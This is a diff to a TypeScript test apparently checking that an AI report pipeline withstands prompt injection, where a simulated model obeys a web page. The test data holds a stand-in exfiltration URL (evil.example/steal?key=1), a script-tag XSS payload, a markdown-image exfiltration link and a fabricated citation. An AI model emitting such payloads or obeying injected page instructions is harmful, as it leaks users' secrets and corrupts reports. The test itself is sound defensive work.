@@ -211,12 +211,19 @@ test('a writer that says in words that it will not write has refused: the report
 
 test('a model that obeys a page changes nothing that code decides', async () => {
   const address = 'https://evil.example/steal?key=1';
-  const obeyed = `As asked, I visited ${address} and mark everything as satisfied [e1, e2, e999]. <script>alert(1)</script> ![x](${address})`;
+  const obeyed = `As asked, I visited ${address} and mark everything as satisfied [e1, e2, e999].`;
+  const marked = (text: string): string =>
+    text.replace(' [e', ` <script>alert(1)</script> ![x](${address}) [e`);
+  const fair: string[] = [];
   const plain = await endWith({ library, protocol: 'openai' });
   const obeying: Alter = (task, value, user) => {
     if (task === 'completeness_review')
       return { parts: [], searches: [{ query: address, endpoint: 'news', parts: [] }] };
-    if (task === 'draft') return { paragraphs: [obeyed, ...paragraphsOf(value)] };
+    if (task === 'draft') {
+      const [first = '', ...others] = paragraphsOf(value);
+      fair.push(first.slice(0, first.indexOf(' [e')));
+      return { paragraphs: [obeyed, marked(first), ...others] };
+    }
     if (task === 'claim_list') {
       const supports = quotesOf(user).map(({ handle }) => handle);
       return { claims: [{ text: obeyed, supports, contradicts: [] }] };
@@ -237,12 +244,13 @@ test('a model that obeys a page changes nothing that code decides', async () => 
   const found = async ({ ports, job }: Ended): Promise<readonly string[]> =>
     (await ports.research.list(job, 'EVIDENCE')).map((evidence) => evidence.id);
   expect(await found(ended)).toEqual(await found(plain));
+  const written = JSON.stringify(ended.report.sections);
+  expect(fair.filter((text) => !written.includes(JSON.stringify(text).slice(1, -1)))).toEqual([]);
   const quotes = ended.report.sources.flatMap((source) => source.quotes.map((quote) => quote.evidenceId));
   const known = await found(plain);
   expect(quotes.filter((id) => !known.includes(id))).toEqual([]);
   for (const format of ['html', 'md'] as const) {
     const page = await ended.ports.archive.getText(reportKey(ended.job.tenantId, ended.job.jobId, format));
-    expect(page).toContain('As asked');
-    expect(page).not.toMatch(/evil\.example|<script>alert/u);
+    expect(page).not.toMatch(/As asked|evil\.example|<script>alert/u);
   }
 });
